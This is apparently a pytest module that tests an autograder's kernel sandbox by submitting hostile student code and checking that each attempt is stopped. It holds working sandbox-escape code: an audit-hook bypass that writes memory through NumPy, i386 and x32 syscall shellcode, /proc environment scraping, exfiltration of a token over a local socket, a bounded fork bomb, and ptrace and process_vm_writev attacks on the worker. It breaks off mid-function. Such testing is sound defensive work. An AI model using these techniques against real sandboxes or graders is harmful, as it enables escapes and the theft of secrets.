"""The class grader attacked as a determined student would attack it: through ``grade_class`` and
through Gradescope's ``run_autograder``, with arbitrary Python in the worker.

Every attack body first runs ``PRELUDE``: the audit hook disarmed through NumPy (its code object
replaced by a no-op, ``__array_interface__`` at the function's address: PEP 578 says the hook is no
boundary), every file descriptor but the pipes closed (the worker fills the slots below its
``RLIMIT_NOFILE``), and ``ctypes`` at hand for raw system calls, i386 ``int 0x80`` calls (an RWX page
below 4 GB) and x32 calls. What stands after that is the kernel: bubblewrap (no view of the
submissions, the secret, the instructor's files or npformer; no network; a PID namespace; uid
65534) and the seccomp filters built by libseccomp (no process, signal, ptrace, socket, memfd,
io_uring, new namespace; a call of another architecture kills).

Each attacker is a student of its own, attacking in ``relu_backward``. An attack that gets through
shows: a read raises ``ValueError("LEAK ...")`` with what it stole (so it lands in the feedback), an
action returns the right answer (full marks), and every side effect is looked for from outside
(canaries, the submissions' bytes, the virtual environment's ``.pth`` files, a listening socket,
a victim process, a signal handler, the processes left). An attack the kernel stops scores 0 with
one line in the reasons grid saying how it was stopped. ``linear_backward``, graded for every
attacker too, must keep its full points, and two honest students their baseline rows and feedback.

The module skips where ``isolation.unavailable()`` gives a reason, unless
``NPFORMER_REQUIRE_ISOLATION=1`` (CI), which makes that a failure. One test runs without the
kernel's isolation, on purpose: there the same secret-reading attack gets the secret.
"""

from __future__ import annotations

import contextlib
import csv
import ctypes
import dataclasses
import hashlib
import inspect
import json
import os
import re
import secrets
import signal
import socket
import subprocess
import sys
import sysconfig
import textwrap
import time
import zipfile
from pathlib import Path
from typing import Callable

import pytest

from npformer.course import EXERCISES, grade_class, instructor_edition
from npformer.course import syllabus

from lesson_solutions import LESSONS, replace_solution

ROOT = Path(__file__).resolve().parents[1]
LESSON = "02_linear_and_relu.py"
ATTACKED = "relu_backward"
BYSTANDER = "linear_backward"    # graded for every attacker too: the next exercise must not be touched
GRADED = [BYSTANDER, ATTACKED]
TIMEOUT = 10.0
SEED = 11
TOKEN_NAME = "NPFORMER_TEST_TOKEN"
HONEST = ("aaa_honest", "zzz_honest")   # sorted before and after every attacker
PURELIB = Path(sysconfig.get_paths()["purelib"])
GRACE_S = 5.0                           # how long a process may take to go once grading returned


# -- arbitrary Python in the worker ------------------------------------------------------------------

PRELUDE = r'''
import os, stat, struct, sys
import numpy as np
C = __CONSTANTS__
if getattr(np, "_npf_attacked", False):  # the attack ran at the first case: the later ones are answered
    return dout * (x > 0)
np._npf_attacked = True

# 1. the audit hook disarmed: its code replaced by a no-op, written through NumPy at its address
class At:
    def __init__(self, address):
        self.__array_interface__ = {"data": (address, False), "shape": (1,), "typestr": "<u8", "version": 3}
hooks = [getattr(sys.modules.get("__main__"), "guard", None)]
if hooks[0] is None:
    import gc
    hooks = [f for f in gc.get_objects() if type(f) is type(At.__init__) and f.__name__ == "guard"]
sys.npf_noop = (lambda event, args: None).__code__
for hook in hooks:
    if hook is None:
        continue
    for offset in range(16, 128, 8):
        word = np.asarray(At(id(hook) + offset))
        if word[0] == id(hook.__code__):
            word[0] = id(sys.npf_noop)
            break
try:
    sys.addaudithook(lambda event, args: None)  # the guard refuses this one event: now it is let through
except Exception as error:
    raise RuntimeError(f"PRELUDE FAILED: the audit hook still refuses ({error})") from None

# 2. every descriptor but the pipes (the replies) closed: new ones fit under RLIMIT_NOFILE again
for fd in range(64):
    try:
        mode = os.fstat(fd).st_mode
    except OSError:
        continue
    if not (stat.S_ISFIFO(mode) or stat.S_ISSOCK(mode)):
        os.close(fd)

# 3. raw system calls
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long

def syscall(number, *args):
    result = libc.syscall(ctypes.c_long(number), *[ctypes.c_long(a) if isinstance(a, int) else a for a in args])
    if result == -1:
        error = ctypes.get_errno()
        raise OSError(error, os.strerror(error))
    return result

def leak(what):
    raise ValueError("LEAK " + repr(what)[:400])

def page():  # an RWX page below 4 GB (MAP_32BIT): an i386 call's pointers are 32 bits
    if getattr(np, "_npf_page", None) is None:
        libc.mmap.restype = ctypes.c_void_p
        libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_long]
        address = libc.mmap(None, 8192, 7, 0x02 | 0x20 | 0x40, -1, 0)
        if not address or address >= 2**32:
            raise OSError(ctypes.get_errno(), "mmap of a low RWX page")
        np._npf_page = address
    return np._npf_page

def run_code(code):
    ctypes.memmove(page(), code, len(code))
    return ctypes.CFUNCTYPE(ctypes.c_int)(page())()

def low(data):
    ctypes.memmove(page() + 4096, data, len(data))
    return page() + 4096

def u32(value):
    return struct.pack("<I", value & 0xFFFFFFFF)

def i386_call(number, ebx=0, ecx=0, edx=0):  # mov eax/ebx/ecx/edx, imm32; int 0x80
    return b"\xb8" + u32(number) + b"\xbb" + u32(ebx) + b"\xb9" + u32(ecx) + b"\xba" + u32(edx) + b"\xcd\x80"

def i386(number, ebx=0, ecx=0, edx=0):  # push rbx (callee-saved); the call; pop rbx; ret
    result = run_code(b"\x53" + i386_call(number, ebx, ecx, edx) + b"\x5b\xc3")
    if result < 0:
        raise OSError(-result, os.strerror(-result))
    return result

def i386_fork(child=b""):  # i386 fork; the child runs `child`, then exit_group(0); the parent gets its pid
    tail = child + i386_call(252, 0)
    code = b"\x53" + i386_call(2) + b"\x85\xc0" + b"\x0f\x85" + struct.pack("<i", len(tail)) + tail + b"\x5b\xc3"
    result = run_code(code)
    if result < 0:
        raise OSError(-result, os.strerror(-result))
    return result

def pipes():
    found = []
    for fd in range(3, 64):
        try:
            if stat.S_ISFIFO(os.fstat(fd).st_mode):
                found.append(fd)
        except OSError:
            pass
    return found
'''


@dataclasses.dataclass
class Attack:
    name: str
    body: str
    refused: Callable[[str], bool]   # the reasons grid's cell when the kernel stopped it
    story: str

    @property
    def student(self) -> str:
        return f"attack_{self.name}"


def _one_of(*reasons: str) -> Callable[[str], bool]:
    return lambda reason: reason in reasons


OPEN_REFUSED = ("raised FileNotFoundError", "raised PermissionError")
WRITE_REFUSED = OPEN_REFUSED + ("raised OSError",)   # EROFS, ENOSPC, EFBIG (RLIMIT_FSIZE)
CALL_REFUSED = ("raised PermissionError",)           # seccomp's EPERM


def _killed(reason: str) -> bool:
    """A call of another architecture: the process killed by seccomp (SIGSYS, exit status -31);
    EPERM would hold too."""
    return reason in CALL_REFUSED or re.fullmatch(r"the grading process died \((-31|[^)]*SIGSYS[^)]*)\)", reason) is not None


ANSWER = "return dout * (x > 0)"


def act(body: str) -> str:
    """An action's body: the attack, then the right answer (full marks show that it got through)."""
    return textwrap.dedent(body).strip() + "\n" + ANSWER


ATTACKS = [
    # -- reading ---------------------------------------------------------------------------------
    Attack("read_secret", "leak(open(C['secret_file']).read())", _one_of(*OPEN_REFUSED),
           "the instructor's secret file, by the path the grader's command line shows"),
    Attack("read_proc", r"""
        def read(path):
            with open(path, "rb") as file:
                return file.read().replace(b"\0", b" ").decode(errors="replace")
        wanted = ("pytest", C["secret_file"], C["token_name"], C["submissions"], "course grade")
        seen, errors, pids, pid = [], [], [], os.getppid()
        while 0 < pid and pid not in pids and len(pids) < 8:   # the worker, the grader, and up
            pids.append(pid)
            try:
                pid = int(next(line.split()[1] for line in read(f"/proc/{pid}/status").splitlines()
                               if line.startswith("PPid:")))
            except (OSError, StopIteration) as error:
                errors.append(error)
                break
        for pid in pids + [1]:
            for part in ("cmdline", "environ"):
                try:
                    text = read(f"/proc/{pid}/{part}")
                except OSError as error:
                    errors.append(error)
                    continue
                seen.append(text)
                hits = [word for word in wanted if word in text]
                if hits:
                    leak((pid, part, hits, text[:200]))
        if not seen and errors:
            raise errors[-1]
        raise LookupError(f"nothing of the grader's in /proc ({len(seen)} files read, pids {pids})")
    """, _one_of("raised LookupError", *OPEN_REFUSED),
           "/proc/<ppid>/cmdline and environ up to the grader, and /proc/1's"),
    Attack("read_other_student", "leak(open(C['honest_lesson_first']).read()[:300])", _one_of(*OPEN_REFUSED),
           "another student's lesson, by its absolute path"),
    Attack("read_npformer_source", """
        errors = []
        for path in C["npformer_sources"]:
            try:
                leak(open(path).read()[:300])
            except OSError as error:
                errors.append(error)
        raise errors[-1]
    """, _one_of(*OPEN_REFUSED), "npformer's ops/relu.py, in the checkout and in site-packages"),
    Attack("import_npformer", """
        import importlib
        sys.path[:0] = [C["checkout"], C["purelib"]]
        answers = importlib.import_module("npformer.ops")  # (a name of its own: the lesson imports `ops`)
        leak(("imported", answers.__file__))
    """, _one_of("raised ModuleNotFoundError", "uses npformer"),
           "importlib.import_module('npformer.ops'), the checkout and site-packages on the path"),
    Attack("list_submissions", "leak(os.listdir(C['submissions']))", _one_of(*OPEN_REFUSED),
           "the submissions folder listed"),
    Attack("environment", """
        wanted = ("TOKEN", "SECRET", "KEY", "PASS", "NPFORMER")
        found = {name: value for name, value in os.environ.items() if any(w in name.upper() for w in wanted)}
        raise ValueError("ENV " + repr(found) + " among " + repr(sorted(os.environ))[:300])
    """, _one_of("raised ValueError"), "os.environ put in an exception message"),
    Attack("run_as_root", """
        if 0 in (os.getuid(), os.geteuid(), os.getgid()):
            leak(("root", os.getuid(), os.geteuid(), os.getgid()))
        raise LookupError(f"uid {os.getuid()}")
    """, _one_of("raised LookupError"), "the worker's user: root would be an escape's first step"),
    # -- writing ---------------------------------------------------------------------------------
    Attack("append_to_honest", act("""
        with open(C["honest_lesson_last"], "a") as file:
            file.write("\\n\\ndef relu_backward(x, dout):\\n    return x * 0\\n")
    """), _one_of(*WRITE_REFUSED), "a wrong function appended to an honest student's lesson"),
    Attack("pth_in_site_packages", act("""
        with open(C["pth"], "w") as file:
            file.write("/nonexistent-npformer-attack\\n")
    """), _one_of(*WRITE_REFUSED), "a .pth into the grader's site-packages (run at every start)"),
    Attack("canary_file", act("""
        with open(C["canary_file"], "w") as file:
            file.write("written by a student")
    """), _one_of(*WRITE_REFUSED), "a file in a folder the test owns"),
    Attack("fill_tmp", act("""
        chunk = b"x" * 2**20
        with open(C["fill"], "wb") as file:
            for _ in range(256):
                file.write(chunk)
                file.flush()
    """), _one_of(*WRITE_REFUSED), "256 MB written to /tmp"),
    # -- the network -----------------------------------------------------------------------------
    Attack("socket_create", act("""
        import socket
        socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    """), _one_of(*CALL_REFUSED), "a socket created at all"),
    Attack("socket_connect", act("""
        import socket
        connection = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        connection.settimeout(2)
        connection.connect(("127.0.0.1", C["port"]))
        connection.sendall(repr(os.environ.get(C["token_name"])).encode())
    """), _one_of(*CALL_REFUSED), "a connection to a port on 127.0.0.1 the test listens on"),
    # -- processes -------------------------------------------------------------------------------
    Attack("fork", act("""
        pid = os.fork()
        if pid == 0:
            os._exit(0)
        os.waitpid(pid, 0)
    """), _one_of(*CALL_REFUSED), "os.fork()"),
    Attack("fork_bomb", act("""
        import time
        original = os.getpid()
        for _ in range(6):  # a bomb with a fuse: 64 processes at most, each gone after 120 s (the test ends them sooner)
            if os.fork() == 0:
                os.setsid()  # out of the job's process group, which is killed when the job ends
        if os.getpid() != original:
            time.sleep(120)
            os._exit(0)
    """), _one_of(*CALL_REFUSED), "a fork loop (bounded)"),
    Attack("posix_spawn", act("""
        os.posix_spawn("/bin/sh", ["sh", "-c", "touch " + C["spawn_canary"]], {})
    """), _one_of(*CALL_REFUSED), "os.posix_spawn('/bin/sh')"),
    Attack("orphan", act("""
        import time
        targets = pipes()
        if os.fork() == 0:  # a child that outlives the job: half a message on the reply pipe, then sleep
            os.setsid()  # out of the job's process group, which is killed when the job ends
            for fd in targets:
                try:
                    os.write(fd, struct.pack("<Q", 2**20))
                except OSError:
                    pass
            time.sleep(120)
            os._exit(0)
    """), _one_of(*CALL_REFUSED), "an orphan that writes a length prefix and sleeps"),
    Attack("i386_mkdir", act("""
        i386(39, low(C["i386_canary"].encode() + b"\\0"), 0o755)  # mkdir
    """), _killed, "mkdir by int 0x80 (i386 numbers, past an x86-64-only filter)"),
    Attack("i386_kill", act("""
        i386(37, C["victim"], 9)  # kill(victim, SIGKILL)
    """), _killed, "kill by int 0x80 of a process the test started"),
    Attack("i386_fork", act("""
        if i386_fork() <= 0:
            raise OSError("no child")
    """), _killed, "fork by int 0x80 (the child exits at once)"),
    Attack("i386_orphan", act("""
        prefix = low(struct.pack("<Q", 2**20))
        child = b"".join(i386_call(4, fd, prefix, 8) for fd in pipes())   # write(fd, prefix, 8)
        child = i386_call(66) + child                                       # setsid(): out of the job's group
        child += i386_call(27, 120) + i386_call(29)                         # alarm(120); pause()
        i386_fork(child)
    """), _killed, "an i386 orphan: half a message on the reply pipe, then a pause"),
    Attack("x32_mkdir", act("""
        syscall(0x40000000 | 83, C["x32_canary"].encode(), 0o755)  # mkdir, by its x32 number
    """), _killed, "mkdir by its x32 number (nr | 0x40000000)"),
    Attack("kill_everyone", act("""
        os.kill(-1, 0)  # signal 0: the kernel's decision on kill(-1, ...) without its effect
    """), _one_of(*CALL_REFUSED), "kill(-1, ...) (probed with signal 0: never SIGKILL as root)"),
    Attack("kill_worker", act("""
        import signal
        os.kill(os.getppid(), signal.SIGKILL)
    """), _one_of(*CALL_REFUSED), "kill(getppid(), SIGKILL): the worker"),
    Attack("signal_grader", act("""
        import signal
        os.kill(C["grader_pid"], signal.SIGUSR1)
    """), _one_of(*CALL_REFUSED), "SIGUSR1 to the grader's pid (the test counts what arrives)"),
    Attack("ptrace_worker", act("""
        import time
        syscall(101, 16, os.getppid(), 0, 0)  # PTRACE_ATTACH
        time.sleep(0.2)
        syscall(101, 17, os.getppid(), 0, 0)  # PTRACE_DETACH
    """), _one_of(*CALL_REFUSED), "ptrace(PTRACE_ATTACH) on the worker"),
    Attack("process_vm_writev", act("""
        address = id(sys) + 8  # a module's type pointer: the same bytes in the worker it was forked from
        data = ctypes.create_string_buffer(ctypes.string_at(address, 8), 8)
        class IOVec(ctypes.Structure):
            _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]
        local, remote = IOVec(ctypes.addressof(data), 8), IOVec(address, 8)
        syscall(311, os.getppid(), ctypes.addressof(local), 1, ctypes.addressof(remote), 1, 0)
    """), _one_of(*CALL_REFUSED), "process_vm_writev into the worker (its own bytes written back)"),
    Attack("memfd_create", act("""
        os.memfd_create("npformer-attack")
    """), _one_of(*CALL_REFUSED), "memfd_create"),
    Attack("io_uring_setup", act("""
        parameters = ctypes.create_string_buffer(120)
        syscall(425, 8, ctypes.addressof(parameters))
    """), _one_of(*CALL_REFUSED), "io_uring_setup (425)"),
    Attack("unshare_user", act("""
        syscall(272, 0x10000000)  # unshare(CLONE_NEWUSER)
    """), _one_of(*CALL_REFUSED), "unshare(CLONE_NEWUSER) (272)"),
]

# the prelude alone, then a machine-code function that returns 42 and no system call: scores full
# marks where the prelude works (so the refusals above are the kernel's, not a broken prelude's)
CONTROL = Attack("control", act("""
    if run_code(b"\\xb8" + u32(42) + b"\\xc3") != 42:
        raise RuntimeError("PRELUDE FAILED: machine code did not run")
"""), _one_of("passed"), "the prelude alone")


def _body(attack: Attack, constants: dict) -> str:
    prelude = textwrap.dedent(PRELUDE).strip().replace("__CONSTANTS__", repr(constants))
    return prelude + "\n" + textwrap.dedent(attack.body).strip() + "\n"


# -- what the test watches from outside -----------------------------------------------------------------

def _tree(folder: Path) -> dict[str, str]:
    """Every path under ``folder`` and its bytes' digest (a link's target): what "unchanged" means."""
    tree = {}
    for path in sorted(folder.rglob("*")):
        name = str(path.relative_to(folder))
        if path.is_symlink():
            tree[name] = "link " + os.readlink(path)
        elif path.is_file():
            tree[name] = hashlib.sha256(path.read_bytes()).hexdigest()
        else:
            tree[name] = "folder"
    return tree


def _processes() -> dict[int, tuple[int, str, str, str]]:
    """pid -> (ppid, state, uid, command line) of every process /proc shows."""
    table = {}
    for entry in os.listdir("/proc"):
        if not entry.isdigit():
            continue
        try:
            status = Path(f"/proc/{entry}/status").read_text()
            command = Path(f"/proc/{entry}/cmdline").read_bytes().replace(b"\0", b" ").decode(errors="replace")
        except OSError:
            continue
        fields = dict(line.split(":", 1) for line in status.splitlines() if ":" in line)
        table[int(entry)] = (int(fields["PPid"]), fields["State"].strip()[:1], fields["Uid"].split()[0],
                             command.strip())
    return table


def _live_descendants(exclude: set[int]) -> dict[int, tuple]:
    """The live processes below this one (orphans come back here: it is a child subreaper while
    grading), but ``exclude``; a zombie is no survivor."""
    table = _processes()
    children: dict[int, list[int]] = {}
    for pid, (ppid, *_) in table.items():
        children.setdefault(ppid, []).append(pid)
    found, stack = {}, [os.getpid()]
    while stack:
        for child in children.get(stack.pop(), []):
            stack.append(child)
            if child not in exclude and table[child][1] != "Z":
                found[child] = table[child]
    return found


def _survivors(exclude: set[int]) -> dict[int, tuple]:
    """What is still running below this process after ``GRACE_S``; then ended (all of it this
    test's own), and every reparented zombie reaped."""
    deadline = time.monotonic() + GRACE_S
    while (left := _live_descendants(exclude)) and time.monotonic() < deadline:
        time.sleep(0.2)
    for pid in left:
        with contextlib.suppress(OSError):
            os.kill(pid, signal.SIGKILL)
    time.sleep(0.2 if left else 0)
    for pid, (ppid, *_) in _processes().items():
        if ppid == os.getpid() and pid not in exclude:
            with contextlib.suppress(ChildProcessError, OSError):
                os.waitpid(pid, os.WNOHANG)
    return left


@contextlib.contextmanager
def _watched(exclude: set[int]):
    """This process a child subreaper (PR_SET_CHILD_SUBREAPER): an orphan of the grading, whatever it
    did, is reparented here and found by ``_survivors``; other processes of the machine (other
    graders' workers) are never looked at or touched."""
    libc = ctypes.CDLL(None, use_errno=True)
    libc.prctl(36, 1, 0, 0, 0)
    survivors: dict[int, tuple] = {}
    try:
        yield survivors
    finally:
        survivors.update(_survivors(exclude))
        libc.prctl(36, 0, 0, 0, 0)


@contextlib.contextmanager
def _captured(path: Path):
    """This process's stdout and stderr (descriptors 1 and 2) into ``path`` while grading."""
    sys.stdout.flush()
    sys.stderr.flush()
    saved = os.dup(1), os.dup(2)
    with path.open("wb") as sink:
        os.dup2(sink.fileno(), 1)
        os.dup2(sink.fileno(), 2)
    try:
        yield
    finally:
        sys.stdout.flush()
        sys.stderr.flush()
        for fd, copy in zip((1, 2), saved):
            os.dup2(copy, fd)
            os.close(copy)


@contextlib.contextmanager
def _signals_counted():
    """SIGUSR1 to this process (the grader) counted, not acted on."""
    arrived: list[int] = []
    previous = signal.signal(signal.SIGUSR1, lambda number, frame: arrived.append(number))
    try:
        yield arrived
    finally:
        signal.signal(signal.SIGUSR1, previous)


def _grid(path: Path) -> dict[str, dict[str, str]]:
    with path.open(newline="", encoding="utf-8") as file:
        return {row["student"]: row for row in csv.DictReader(file)}


def _honest(folder: Path) -> None:
    instructor_edition(LESSONS, folder, only=["02"])


# -- the gate ------------------------------------------------------------------------------------------

@pytest.fixture(scope="module")
def kernel_isolation():
    """``npformer.course.isolation``, where it works here; a skip elsewhere, or a failure with
    ``NPFORMER_REQUIRE_ISOLATION=1``. Imported here, so that collecting this module needs nothing of it."""
    try:
        from npformer.course import isolation
    except ImportError as error:
        pytest.fail(f"npformer.course.isolation cannot be imported ({error}): the grader has no kernel isolation",
                    pytrace=False)
    why = isolation.unavailable()
    if why is not None:
        if os.environ.get("NPFORMER_REQUIRE_ISOLATION") == "1":
            pytest.fail(f"no kernel isolation here ({why}) and NPFORMER_REQUIRE_ISOLATION=1", pytrace=False)
        pytest.skip(f"no kernel isolation here: {why}")
    return isolation


# -- the honest baseline and the attacked class -------------------------------------------------------

@dataclasses.dataclass
class Graded:
    root: Path
    out: Path
    rows: dict[str, dict[str, str]]
    reasons: dict[str, dict[str, str]]
    feedback: dict[str, str]
    captured: str
    survivors: dict[int, tuple] = dataclasses.field(default_factory=dict)
    extra: dict = dataclasses.field(default_factory=dict)

    def outputs(self) -> str:
        """Everything the grader wrote and printed, as one text."""
        files = [path.read_text(encoding="utf-8", errors="replace") for path in sorted(self.out.parent.rglob("*"))
                 if path.is_file()]
        return "\n".join(files + [self.captured])


def _graded(root: Path, out: Path, captured: Path | None = None, survivors=None, **extra) -> Graded:
    """What ``grade_class`` wrote to ``out`` (and, when ``captured`` is given, printed), read back."""
    feedback = {path.stem: path.read_text(encoding="utf-8")
                for path in (out.parent / (out.stem + "_feedback")).glob("*.txt")}
    printed = captured.read_text(encoding="utf-8", errors="replace") if captured is not None else ""
    return Graded(root, out, _grid(out), _grid(out.with_name(out.stem + "_reasons.csv")), feedback, printed,
                  survivors or {}, extra)


@pytest.fixture(scope="module")
def term(tmp_path_factory):
    """The term's instructor: a secret (in a file outside the submissions, readable by root only)
    and a token in the grader's environment."""
    root = tmp_path_factory.mktemp("term")
    secret = "SECRET-" + secrets.token_hex(12)
    secret_file = root / "instructor" / "secret.txt"
    secret_file.parent.mkdir()
    secret_file.write_text(secret + "\n", encoding="utf-8")
    secret_file.chmod(0o600)
    return {"root": root, "secret": secret, "secret_file": secret_file, "token": "TOKEN-" + secrets.token_hex(12)}


@pytest.fixture(scope="module")
def baseline(kernel_isolation, term):
    """The two honest students graded alone: what they get in any class."""
    root = term["root"] / "baseline"
    for name in HONEST:
        _honest(root / "submissions" / name)
    out = root / "out" / "grades.csv"
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv(TOKEN_NAME, term["token"])
        grade_class(root / "submissions", out, seed=SEED, secret=term["secret"], exercises=GRADED, timeout=TIMEOUT,
                    reasons=True, isolated=True)
    return _graded(root, out)


@pytest.fixture(scope="module")
def attacked_class(kernel_isolation, term, baseline):
    """One grading of the whole class: the two honest students, the control and every attacker."""
    root = term["root"] / "attacked"
    submissions = root / "submissions"
    canaries = root / "canaries"   # the test's own folder, outside the submissions and the outputs
    canaries.mkdir(parents=True)
    for name in HONEST:
        _honest(submissions / name)
    listener = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    listener.bind(("127.0.0.1", 0))
    listener.listen(16)
    listener.setblocking(False)
    victim = subprocess.Popen(["sleep", "300"])
    token_tag = term["token"].split("-")[1][:8]
    constants = {
        "secret_file": str(term["secret_file"]), "submissions": str(submissions),
        "honest_lesson_first": str(submissions / HONEST[0] / LESSON),
        "honest_lesson_last": str(submissions / HONEST[1] / LESSON),
        "checkout": str(ROOT), "purelib": str(PURELIB),
        "npformer_sources": [str(ROOT / "npformer" / "ops" / "relu.py"), str(PURELIB / "npformer" / "ops" / "relu.py")],
        "pth": str(PURELIB / f"npformer-attack-{token_tag}.pth"),
        "canary_file": str(canaries / "written.txt"), "spawn_canary": str(canaries / "spawned"),
        "i386_canary": str(canaries / "i386-made"), "x32_canary": str(canaries / "x32-made"),
        "fill": f"/tmp/npformer-attack-fill-{token_tag}",
        "port": listener.getsockname()[1], "victim": victim.pid, "grader_pid": os.getpid(),
        "token_name": TOKEN_NAME,
    }
    for attack in [CONTROL, *ATTACKS]:
        folder = submissions / attack.student
        instructor_edition(LESSONS, folder, only=["02"])
        replace_solution(folder / LESSON, ATTACKED, _body(attack, constants))
    before = _tree(submissions)
    pth_before = sorted(PURELIB.glob("*.pth"))
    out = root / "out" / "grades.csv"
    captured = root / "captured.txt"
    started = time.monotonic()
    try:
        with pytest.MonkeyPatch.context() as patch, _signals_counted() as arrived, \
                _watched({victim.pid}) as survivors:
            patch.setenv(TOKEN_NAME, term["token"])
            with _captured(captured):
                grade_class(submissions, out, seed=SEED, secret=term["secret"], exercises=GRADED, timeout=TIMEOUT,
                            reasons=True, isolated=True)
        accepted = []
        while True:
            try:
                connection, _ = listener.accept()
            except BlockingIOError:
                break
            connection.settimeout(1)
            with contextlib.suppress(OSError):
                accepted.append(connection.recv(200))
            connection.close()
        victim_alive = victim.poll() is None
        graded = _graded(root, out, captured, dict(survivors),
                         seconds=time.monotonic() - started, submissions=submissions, before=before, after=_tree(submissions),
                         pth_new=sorted(set(PURELIB.glob("*.pth")) - set(pth_before)), canaries=sorted(canaries.iterdir()),
                         fill_exists=Path(constants["fill"]).exists(), accepted=accepted, signals=list(arrived),
                         victim_alive=victim_alive, constants=constants)
    finally:  # whatever got through is undone here, so that it leaves nothing on the machine
        listener.close()
        victim.kill()
        victim.wait()
        for path in (Path(constants["pth"]), Path(constants["fill"])):
            with contextlib.suppress(OSError):
                path.unlink()
    return graded


# -- the tests ----------------------------------------------------------------------------------------------

def test_grade_class_is_isolated_by_default():
    """``grade_class`` isolates unless told ``isolated=False``."""
    parameter = inspect.signature(grade_class).parameters.get("isolated")
    assert parameter is not None and parameter.default is True, parameter


def test_every_attack_reaches_the_worker_as_written(attacked_class):
    """What the grader collects for each attacker is the lesson's ``import numpy as np`` and the
    attack itself: a name of the body that the lesson also imports (``ops``: ``from npformer import
    ops``) would bring that import along, refused at load before the prelude runs, and the attack
    would prove nothing."""
    from npformer.course import collect

    for attack in [CONTROL, *ATTACKS]:
        source = collect(attacked_class.extra["submissions"] / attack.student, None).sources[ATTACKED]
        head = source[:source.index(f"def {ATTACKED}(")].strip()
        assert head == "import numpy as np", (attack.name, head)
        assert "PRELUDE FAILED" in source and "sys.npf_noop" in source, attack.name


def test_the_prelude_runs_in_the_isolated_worker(attacked_class):
    """The control student: the hook disarmed, the descriptors closed, machine code run, full
    marks. So every refusal below is the kernel's, not a prelude that broke."""
    row = attacked_class.rows[CONTROL.student]
    assert row[ATTACKED] == str(EXERCISES[ATTACKED].points), (row, attacked_class.feedback[CONTROL.student])
    assert attacked_class.reasons[CONTROL.student][ATTACKED] == "passed"


@pytest.mark.parametrize("attack", ATTACKS, ids=[attack.name for attack in ATTACKS])
def test_the_attack_is_stopped_by_the_kernel(attacked_class, attack):
    student = attack.student
    feedback = attacked_class.feedback[student]
    reason = attacked_class.reasons[student][ATTACKED]
    assert "PRELUDE FAILED" not in feedback, feedback
    assert "LEAK" not in feedback, f"{attack.story}: it got through\n{feedback}"
    assert attacked_class.rows[student][ATTACKED] == "0", f"{attack.story}: it got through (full marks)\n{feedback}"
    assert reason and "\n" not in reason, reason
    assert attack.refused(reason), f"{attack.story}: {reason!r}\n{feedback}"
    # the next exercise, in the same worker, is graded as ever
    assert attacked_class.rows[student][BYSTANDER] == str(EXERCISES[BYSTANDER].points), feedback
    assert attacked_class.reasons[student][BYSTANDER] == "passed"


def test_the_environment_attack_finds_no_instructor_variable(attacked_class):
    feedback = attacked_class.feedback["attack_environment"]
    assert "ENV {}" in feedback, feedback


def test_the_honest_students_get_their_baseline(attacked_class, baseline):
    full = sum(EXERCISES[name].points for name in GRADED)
    for name in HONEST:
        assert attacked_class.rows[name] == baseline.rows[name], (attacked_class.rows[name], baseline.rows[name])
        assert attacked_class.rows[name]["total"] == str(full)
        assert set(attacked_class.reasons[name][e] for e in GRADED) == {"passed"}
        assert attacked_class.feedback[name] == baseline.feedback[name]


def test_nothing_is_written_outside_the_grader_s_outputs(attacked_class):
    extra = attacked_class.extra
    assert extra["after"] == extra["before"], "the submissions changed: " + repr(
        {k: v for k, v in extra["after"].items() if extra["before"].get(k) != v})
    assert extra["pth_new"] == [], extra["pth_new"]
    assert extra["canaries"] == [], extra["canaries"]
    assert not extra["fill_exists"], extra["constants"]["fill"]
    out = attacked_class.out
    written = sorted(str(path.relative_to(out.parent)) for path in out.parent.rglob("*"))
    students = sorted(attacked_class.rows)
    assert written == sorted(["grades.csv", "grades_reasons.csv", "grades_feedback",
                              *(f"grades_feedback/{name}.txt" for name in students)])


def test_no_connection_and_no_signal_reach_the_grader(attacked_class):
    assert attacked_class.extra["accepted"] == [], attacked_class.extra["accepted"]
    assert attacked_class.extra["signals"] == []
    assert attacked_class.extra["victim_alive"], "the victim process was killed"


def test_no_process_outlives_the_grading(attacked_class):
    survivors = attacked_class.survivors
    assert survivors == {}, "still running after grading (ended by the test since): " + "; ".join(
        f"{pid}: uid {uid}, {command[:120]}" for pid, (_, _, uid, command) in survivors.items())


def test_the_secret_and_the_token_are_in_no_output(attacked_class, term):
    text = attacked_class.outputs()
    assert term["secret"] not in text
    assert term["token"] not in text
    assert str(term["secret_file"]) not in "".join(attacked_class.feedback[name] for name in HONEST)


def test_the_class_is_graded_quickly(attacked_class):
    """Every attack stopped at once: none may hold the class for its timeout."""
    assert attacked_class.extra["seconds"] < 4 * TIMEOUT, attacked_class.extra["seconds"]


# -- forged replies: a separate grading each, since a grader that trusts them may stop the run ----------

FORGERIES = {
    "returned_without_output": "{'case': 0, 'status': 'returned'}",
    "printed_not_a_count": "{'case': 0, 'status': 'returned', 'output': array, 'printed': 'a lot'}",
    "object_array": "{'case': 0, 'status': 'returned', 'output': objects}",
}


@pytest.mark.parametrize("forgery", list(FORGERIES))
def test_a_forged_reply_fails_the_exercise_and_the_next_student_is_unaffected(kernel_isolation, term, baseline,
                                                                              forgery, tmp_path):
    body = f"""
        import base64, io, json
        good = dout * (x > 0)
        buffer = io.BytesIO()
        np.save(buffer, good, allow_pickle=False)
        array = {{"__array__": base64.b64encode(buffer.getvalue()).decode("ascii")}}
        buffer = io.BytesIO()
        np.save(buffer, np.array([{{"a": 1}}, len], dtype=object), allow_pickle=True)
        objects = {{"__array__": base64.b64encode(buffer.getvalue()).decode("ascii")}}
        payload = json.dumps({FORGERIES[forgery]}).encode()
        for fd in range(3, 21):
            try:
                os.write(fd, struct.pack("<Q", len(payload)) + payload)
            except OSError:
                pass
        return good
    """
    submissions = tmp_path / "submissions"
    forger = Attack(f"forge_{forgery}", body, _one_of(), "a forged reply")
    instructor_edition(LESSONS, submissions / forger.student, only=["02"])
    replace_solution(submissions / forger.student / LESSON, ATTACKED, _body(forger, {}))
    _honest(submissions / HONEST[1])
    out = tmp_path / "out" / "grades.csv"
    with _watched(set()) as survivors:
        with _captured(tmp_path / "captured.txt"):
